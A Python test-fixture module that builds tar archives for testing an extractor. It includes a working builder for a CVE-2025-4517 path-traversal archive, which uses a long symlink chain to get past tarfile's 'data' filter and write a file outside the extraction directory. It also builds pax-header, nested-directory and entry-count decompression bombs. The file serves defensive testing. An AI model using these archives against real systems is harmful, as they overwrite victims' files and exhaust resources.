"""Tar archives for tests: ordinary and malicious ones."""

import gzip
import io
import tarfile
from pathlib import Path


def build_member(name: str, kind: bytes = tarfile.REGTYPE, target: str = "", size: int = 0) -> tarfile.TarInfo:
    member = tarfile.TarInfo(name)
    member.type, member.linkname, member.size = kind, target, size
    return member


def build_archive(*members: tarfile.TarInfo, compression: str = "", **files: bytes) -> bytes:
    """Build an archive with these members, followed by these files; `__` in a name means a slash."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode=f"w:{compression}") as archive:  # type: ignore[call-overload]  # a mode
        for member in members:
            archive.addfile(member, io.BytesIO(bytes(member.size)) if member.isreg() else None)
        for name, content in files.items():
            archive.addfile(build_member(name.replace("__", "/"), size=len(content)), io.BytesIO(content))
    return packed.getvalue()


def build_long_chain(target: Path) -> bytes:
    """
    Build an archive that exploits CVE-2025-4517 to write `target`, a file outside the directory it is unpacked into.

    The path that its chain of links resolves to is longer than PATH_MAX. `realpath` therefore stops halfway, and the
    filter `data` checks a path that differs from the one that the kernel follows.
    """
    component, steps, path = "d" * 247, "abcdefghijklmnop", ""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for step in steps:
            archive.addfile(build_member(f"{path}{component}", tarfile.DIRTYPE))
            archive.addfile(build_member(f"{path}{step}", tarfile.SYMTYPE, component))
            path += f"{component}/"
        link = "/".join(steps) + "/" + "l" * 254
        archive.addfile(build_member(link, tarfile.SYMTYPE, "../" * len(steps)))
        archive.addfile(build_member("escape", tarfile.SYMTYPE, f"{link}/../../../../../../../..{target.parent}"))
        archive.addfile(build_member("flag", tarfile.LNKTYPE, f"escape/{target.name}"))
        content = b"written by an attacker"
        archive.addfile(build_member("flag", size=len(content)), io.BytesIO(content))
        archive.addfile(build_member(f"escape/{target.name}", size=len(content)), io.BytesIO(content))
    return packed.getvalue()


def build_pax_bomb(size: int) -> bytes:
    """Build a small compressed archive with one pax header of `size` bytes."""
    header = build_member("bomb", tarfile.XHDTYPE, size=size).tobuf()
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=9) as file:
        file.write(header)
        record = b"%d comment=" % size
        file.write(record)
        for _ in range(size >> 20):
            file.write(b"x" * (1 << 20))
    return packed.getvalue()


def build_directory_bomb(count: int) -> bytes:
    """Build a small compressed archive with `count` entries; each adds 116 nested directories."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz", format=tarfile.GNU_FORMAT, compresslevel=9) as archive:
        for number in range(count):
            archive.addfile(build_member(f"{number}/" + "d/" * 115, tarfile.DIRTYPE))
    return packed.getvalue()


def build_entry_bomb(count: int) -> bytes:
    """Build a small compressed archive of `count` empty files."""
    entry = build_member("x").tobuf()
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=9) as file:
        for _ in range(count // 1000):
            file.write(entry * 1000)
    return packed.getvalue()
